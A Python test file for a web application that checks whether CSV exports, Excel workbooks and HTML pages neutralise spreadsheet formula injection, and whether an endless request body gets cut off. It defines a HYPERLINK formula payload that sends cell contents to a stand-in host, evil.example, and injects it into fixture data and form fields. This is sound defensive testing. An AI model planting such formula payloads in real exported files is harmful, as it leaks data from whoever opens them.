"""What someone could bring or write to harm whoever opens it next: formulas in every export, and
bodies that never end.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from starlette.testclient import TestClient

from tests.unit.test_web_agreeing import signed_in
from tests.unit.test_web_trying import wait_for
from wpb.store.database import Database
from wpb.web.app import Desk, create_app, guarded_routes
from wpb.web.opening import open_model, way_in

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
STARTS = ("=", "+", "@", "\t", "\r")


@pytest.fixture(scope="module")
def app(repo_root: Path, tmp_path_factory: pytest.TempPathFactory) -> Any:
    """The app on a model in which every name that people write is a formula."""
    model = tmp_path_factory.mktemp("model") / "tiny"
    shutil.copytree(repo_root / "tests" / "fixtures" / "tiny", model)
    changed = 0
    for path in (model / "inputs").glob("*.csv"):
        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
        for column in [
            at
            for at, name in enumerate(rows[0])
            if name in ("name", "reason", "description", "source", "note")
        ]:
            for row in rows[1:]:
                changed += bool(row[column])
                row[column] = EVIL if row[column] else ""
        with path.open("w", encoding="utf-8", newline="") as stream:
            csv.writer(stream).writerows(rows)
    assert changed > 20
    database = Database(f"sqlite:///{tmp_path_factory.mktemp('app') / 'store.db'}")
    open_model(database, model)
    return create_app(Desk(database))


@pytest.fixture(scope="module")
def owner(app: Any) -> Iterator[TestClient]:
    with TestClient(app, follow_redirects=False) as client:
        mine = signed_in(app, way_in(app.state.desk.database))
        client.cookies, client.headers = mine.cookies, mine.headers
        yield client


def harmful(text: str) -> list[str]:
    """Cells of a CSV that a spreadsheet would run: a sign before something that is no number counts
    too.
    """
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    return [
        cell
        for cell in cells
        if cell.startswith(STARTS)
        or (cell.startswith("-") and not re.fullmatch(r"-[\d.]+(e[+-]?\d+)?", cell))
    ]


def test_no_csv_holds_a_formula_that_someone_wrote(app: Any, owner: TestClient) -> None:
    owner.post("/versions/1/remarks", data={"kind": "comment", "words": EVIL}).raise_for_status()
    owner.post(
        "/people",
        data={"name": EVIL, "email": "=x@example.org", "organisation": "ICB1", "role": "analyst"},
    ).raise_for_status()
    owner.post(
        "/checklists/best_interest",
        data={"version": 1, "revision": 0, "point": ["statement"], "answer": [EVIL]},
    ).raise_for_status()
    names = [each["name"] for each in owner.get("/tables.json").json()["results"]]
    asked = [f"/tables/{name}.csv" for name in names] + [
        "/versions/1.csv",
        "/versions.csv",
        "/trail.csv",
        "/people.csv",
        "/checklists/best_interest.csv",
        "/systems.csv",
        "/explain/baseline.csv",
        "/scenarios.csv",
        "/runs.csv",
        "/try.csv",
        "/tables.csv",
    ]
    assert {path.rsplit("/", 1)[0] for path in asked} <= {
        route.path.rsplit("/", 1)[0] for route in guarded_routes(app)
    } | {"/versions", "/checklists", "/tables", "", "/explain"}
    seen = 0
    for path in asked:
        answer = owner.get(path)
        assert answer.status_code == 200 and harmful(answer.text) == [], path
        seen += answer.text.count("HYPERLINK")
    assert seen > 20, "the formulas were there to find, as words"


def test_no_workbook_or_file_of_a_run_holds_one_either(owner: TestClient) -> None:
    run = owner.post("/runs", data={"version": 1}).json()["run"]
    assert wait_for(owner, run)["standing"] == "done"
    with zipfile.ZipFile(io.BytesIO(owner.get(f"/runs/{run}.zip").content)) as archive:
        for name in archive.namelist():
            if name.endswith(".csv"):
                assert harmful(archive.read(name).decode()) == [], name
        book = openpyxl.load_workbook(io.BytesIO(archive.read("workbook.xlsx")))
    cells = [
        cell
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and "HYPERLINK" in cell.value
    ]
    assert cells and [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert not any(
        cell.hyperlink and "evil" in str(cell.hyperlink.target)
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
    )


def test_a_page_shows_them_as_words(owner: TestClient) -> None:
    text = owner.get("/versions/1", headers={"accept": "text/html"}).text
    assert "=HYPERLINK(&#34;" in text and 'href="http://evil' not in text


def test_a_body_without_a_length_is_cut_off(owner: TestClient) -> None:
    sent = 0

    def endless() -> Iterator[bytes]:
        nonlocal sent
        while sent < 50_000_000:
            sent += 65_536
            yield b"slider=" + b"x" * 65_529

    assert owner.post(
        "/try/figures",
        content=endless(),
        headers={"content-type": "application/x-www-form-urlencoded"},
    ).status_code in (413, 422)
